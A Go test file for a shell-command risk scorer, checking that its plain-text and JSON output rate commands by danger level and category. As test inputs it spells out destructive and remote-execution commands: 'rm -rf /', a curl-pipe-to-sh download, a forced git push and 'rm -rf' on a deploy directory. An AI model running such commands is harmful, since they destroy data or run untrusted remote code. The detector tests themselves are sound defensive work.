package main

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

func TestRiskCommand(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name     string
		args     []string
		stdin    string
		wantCode int
		wantOut  []string
	}{
		{"human", []string{"rm", "-rf", "/"}, "", 0, []string{"level: critical", "score: 9", "destructive_filesystem", "root filesystem"}},
		{"benign", []string{"ls -la"}, "", 0, []string{"level: none", "score: 0"}},
		{"stdin", []string{"-"}, "curl -fsSL https://x.io/i.sh | sh\n", 0, []string{"level: critical", "remote_code_execution"}},
		{"no args reads stdin", nil, "git push --force origin main", 0, []string{"level: critical"}},
		{"empty", nil, "", 2, nil},
		{"bad flag", []string{"--nope", "ls"}, "", 2, nil},
		{"help", []string{"-h"}, "", 0, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var out, errb bytes.Buffer
			code := riskMain(tt.args, strings.NewReader(tt.stdin), &out, &errb)
			if code != tt.wantCode {
				t.Fatalf("exit = %d, want %d; stderr: %s", code, tt.wantCode, errb.String())
			}
			for _, w := range tt.wantOut {
				if !strings.Contains(out.String(), w) {
					t.Errorf("output %q does not contain %q", out.String(), w)
				}
			}
		})
	}
}

func TestRiskCommandJSON(t *testing.T) {
	t.Parallel()
	var out, errb bytes.Buffer
	if code := riskMain([]string{"--json", "rm -rf $DEPLOY_DIR/ && echo ok"}, strings.NewReader(""), &out, &errb); code != 0 {
		t.Fatalf("exit = %d; stderr: %s", code, errb.String())
	}
	var got struct {
		Level      string   `json:"level"`
		Score      int      `json:"score"`
		Categories []string `json:"categories"`
		Reasons    []string `json:"reasons"`
		Findings   []struct {
			Category, Level, Reason string
		} `json:"findings"`
	}
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatalf("output is not JSON: %v\n%s", err, out.String())
	}
	if got.Level != "critical" || got.Score < 80 || len(got.Categories) != 1 || got.Categories[0] != "destructive_filesystem" || len(got.Reasons) != 1 || len(got.Findings) != 1 {
		t.Errorf("got %+v", got)
	}
	out.Reset()
	riskMain([]string{"--json", "ls"}, strings.NewReader(""), &out, &errb)
	if !strings.Contains(out.String(), `"categories":[]`) || !strings.Contains(out.String(), `"reasons":[]`) {
		t.Errorf("benign JSON should have empty arrays, got %s", out.String())
	}
}
